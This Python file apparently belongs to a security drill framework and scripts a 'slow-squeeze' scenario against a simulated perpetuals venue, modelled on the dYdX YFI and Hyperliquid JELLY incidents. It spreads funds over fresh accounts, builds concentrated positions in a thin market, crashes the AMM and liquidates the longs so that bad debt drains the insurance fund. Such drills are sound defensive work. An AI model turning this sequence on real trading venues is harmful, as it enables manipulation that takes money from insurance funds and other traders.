"""slow-squeeze — dYdX YFI (Nov 2023) / Hyperliquid JELLY (Mar 2025): open interest concentrated in the
thin market from many fresh accounts over many blocks, then a crash of the AMM leaves the longs with bad
debt that drains the insurance fund and the market's compartment while the shorts cash in."""

from __future__ import annotations

from collections.abc import Iterator

from breakglass.devnet.venue import USD, Venue
from breakglass.drills.scenarios.base import ETHER, AttackContext, Scenario, Step

THIN = 2


class SlowSqueeze(Scenario):
    name = "slow-squeeze"
    incident = "dYdX YFI, 2023-11-17 (~$9M insurance) / Hyperliquid JELLY, 2025-03-26"
    summary = "concentrate thin-market OI over many accounts and blocks, crash the pool, leave bad debt"
    switches = ("unbounded_thin_oi",)
    target_label = "THIN-PERP compartment and insurance fund"
    funding_usd = 2_500_000 * USD
    funding_eth = 30 * ETHER
    pump_usd = 1_000_000 * USD
    pump_steps = 4
    accounts = 6  # longs and as many shorts
    long_size = 400_000 * USD
    long_margin = 41_000 * USD
    short_size = 400_000 * USD
    short_margin = 100_000 * USD

    def deploy(self, ctx: AttackContext) -> Iterator[Step]:
        v = ctx.venue
        yield ctx.deploy(
            "deploy disperser",
            "SqueezeDisperser",
            v.usd.address,
            v["amm_thin"].address,
            v["thin_token"].address,
        )

    def _longs(self, ctx: AttackContext) -> list[int]:
        return list(range(1, self.accounts + 1))

    def _shorts(self, ctx: AttackContext) -> list[int]:
        return list(range(self.accounts + 1, 2 * self.accounts + 1))

    def strike(self, ctx: AttackContext) -> Iterator[Step]:
        v = ctx.venue
        disperser = ctx.attack("SqueezeDisperser")
        market = v.market(THIN)
        yield ctx.call(
            "fund disperser", v.usd, "transfer", disperser.address, self.funding_usd, wait_seconds=30
        )
        subs = [ctx.key(i).address for i in self._longs(ctx) + self._shorts(ctx)]
        yield ctx.call(
            "fan out to fresh accounts",
            disperser,
            "disperse",
            subs,
            self.short_margin,
            ETHER,
            value=len(subs) * ETHER,
            gas=2_000_000,
            wait_seconds=60,
        )
        # the slow part: accumulate the asset (the average follows), then build the book account by account
        for i in range(self.pump_steps):
            yield ctx.call(
                f"accumulate THIN ({i + 1}/{self.pump_steps})",
                disperser,
                "buy",
                self.pump_usd // self.pump_steps,
                wait_blocks=50,
                wait_seconds=600,
            )
        for n, (lo, sh) in enumerate(zip(self._longs(ctx), self._shorts(ctx), strict=True)):
            for index, is_long, margin, size in (
                (lo, True, self.long_margin, self.long_size),
                (sh, False, self.short_margin, self.short_size),
            ):
                acct = ctx.key(index)
                yield ctx.call(
                    "approve market", v.usd, "approve", market.address, margin, signer=acct, wait_seconds=2
                )
                yield ctx.call(
                    f"open {'long' if is_long else 'short'} #{n + 1}",
                    market,
                    "openPosition",
                    is_long,
                    margin,
                    size,
                    signer=acct,
                    gas=600_000,
                    abort_on_revert=True,
                    wait_blocks=5,
                    wait_seconds=60,
                )
        yield ctx.call(
            "crash: dump the accumulated THIN", disperser, "dump", wait_blocks=150, wait_seconds=1_900
        )
        # the crash holds (no arbitrage on a thin pool); the longs are liquidated, the shorts close
        for index in self._longs(ctx):
            yield ctx.call(
                "liquidate a long",
                market,
                "liquidate",
                ctx.key(index).address,
                signer=ctx.key(self._shorts(ctx)[0]),
                gas=800_000,
                wait_seconds=12,
            )
        for index in self._shorts(ctx):
            yield ctx.call(
                "close a short", market, "closePosition", signer=ctx.key(index), gas=800_000, wait_seconds=12
            )

    def target(self, venue: Venue) -> int:
        b = venue.balances()
        return b.insurance + b.compartments[THIN]
